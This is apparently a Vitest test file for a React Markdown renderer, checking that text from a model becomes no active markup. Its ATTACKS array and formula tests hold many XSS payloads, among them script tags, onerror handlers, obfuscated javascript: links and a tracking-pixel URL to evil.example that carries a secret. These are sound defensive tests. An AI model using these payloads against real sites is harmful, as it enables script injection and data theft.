import "@testing-library/jest-dom/vitest";
import { render, waitFor } from "@testing-library/react";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const show = (text: string, streaming = false) =>
  render(<Markdown text={text} streaming={streaming} />).container;

/** What a page may hold after rendering text from a model. */
const ELEMENTS = new Set(
  "div p h3 h4 h5 h6 ul ol li blockquote hr br strong em del code a sup figure figcaption pre span button input table thead tbody tr th td svg path rect circle line".split(
    " ",
  ),
);

function judge(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ELEMENTS, element.outerHTML.slice(0, 120)).toContain(element.tagName.toLowerCase());
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), `${name}=${value}`).toBe(false);
      if (["href", "src", "action", "formaction", "xlink:href", "srcdoc"].includes(name)) {
        expect(value).toMatch(/^(?:https?:|mailto:)/);
      }
    }
  }
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>@import '//evil.example/x.css'; * { display: none }</style>",
  "<details open ontoggle=alert(1)>x</details>",
  "<x onpointerover=alert(1)>y</x>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x]( javascript:alert(1) )",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/v1/me)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![tracker](https://evil.example/pixel.png?q=secret)",
  "[![x](https://evil.example/p.png)](https://ok.example)",
  '![x](https://evil.example/a.png "onerror=alert(1)")',
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:1) |",
  "- [ ] <img src=x onerror=alert(1)>",
  "[^1]: <img src=x onerror=alert(1)>",
  "> <svg/onload=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "<!-- <img src=x onerror=alert(1)> --><img src=x onerror=alert(1)>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "__proto__ constructor [a][__proto__] [b][constructor]",
  "[x][__proto__]\n\n[__proto__]: javascript:alert(1)",
];

describe("text from a model", () => {
  it.each(ATTACKS)("becomes no markup of its own: %s", (text) => {
    judge(show(text));
    judge(show(text, true));
  });

  it("becomes none wherever it is cut while it is written", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...ATTACKS), { minLength: 1, maxLength: 3 }),
        fc.nat(300),
        (texts, cut) => {
          const text = texts.join("\n\n");
          judge(show(text.slice(0, Math.min(cut, text.length)), true));
        },
      ),
      { numRuns: 150 },
    );
  });

  it("loads no picture from elsewhere; it shows where it is", () => {
    const root = show("![a view](https://pictures.example/a.png)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")).toHaveAttribute("href", "https://pictures.example/a.png");
    expect(root).toHaveTextContent("a view");
    expect(root).toHaveTextContent("pictures.example");
  });

  it("opens links elsewhere, without telling where from", () => {
    const link = show("[x](https://x.org)").querySelector("a");
    expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
    expect(link).toHaveAttribute("target", "_blank");
  });

  it("keeps the words of a link that it does not follow", () => {
    const root = show("see [the docs](javascript:alert(1))");
    expect(root.querySelector("a")).toBeNull();
    expect(root).toHaveTextContent("see the docs");
  });
});

describe("markdown", () => {
  it("reads tables, lists, tasks, notes and code", () => {
    const root = show(
      "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. three\n4. four\n\n- [x] done\n- [ ] open\n\nword[^1]\n\n[^1]: a note\n\n```py\nx = 1\n```",
    );
    expect(root.querySelectorAll("th")).toHaveLength(2);
    expect(root.querySelector("ol")).toHaveAttribute("start", "3");
    expect(root.querySelectorAll("input:checked")).toHaveLength(1);
    expect(root.querySelectorAll("sup")).toHaveLength(2);
    expect(root.querySelector("pre")?.textContent).toBe("x = 1\n");
  });

  it("begins headings below the page's own", () => {
    expect(show("# One\n\n## Two").querySelectorAll("h1, h2")).toHaveLength(0);
  });

  it("shows money as money", () => {
    expect(show("from $5 to $10, or $3 and $4.50")).toHaveTextContent("from $5 to $10, or $3 and $4.50");
  });
});

describe("formulas", () => {
  it.each([
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlData{onclick=alert(1)}{x}$",
    "$\\html@mathml{<img src=x onerror=alert(1)>}{x}$",
  ])("do not act: %s", async (text) => {
    const root = show(text);
    await waitFor(() => expect(root.querySelector('[role="math"]')?.childNodes.length).toBeGreaterThan(0), {
      timeout: 5000,
    });
    expect(root.querySelector("a, img, script, [onclick], [onerror]")).toBeNull();
    expect(root.innerHTML).not.toMatch(/(?:href|src)="/);
  });

  it("that never end are given up, and are bounded in size", async () => {
    const root = show("$\\def\\a{\\a\\a}\\a$ and $\\rule{9999em}{9999em}$");
    await waitFor(() => expect(root.querySelectorAll('[role="math"] > *')).toHaveLength(2), {
      timeout: 15_000,
    });
    const [endless, huge] = root.querySelectorAll('[role="math"]');
    expect(endless?.querySelector("code")).toHaveTextContent("\\def");
    expect(huge?.querySelector(".katex-html")?.innerHTML).not.toContain("9999em");
  }, 20_000);
});
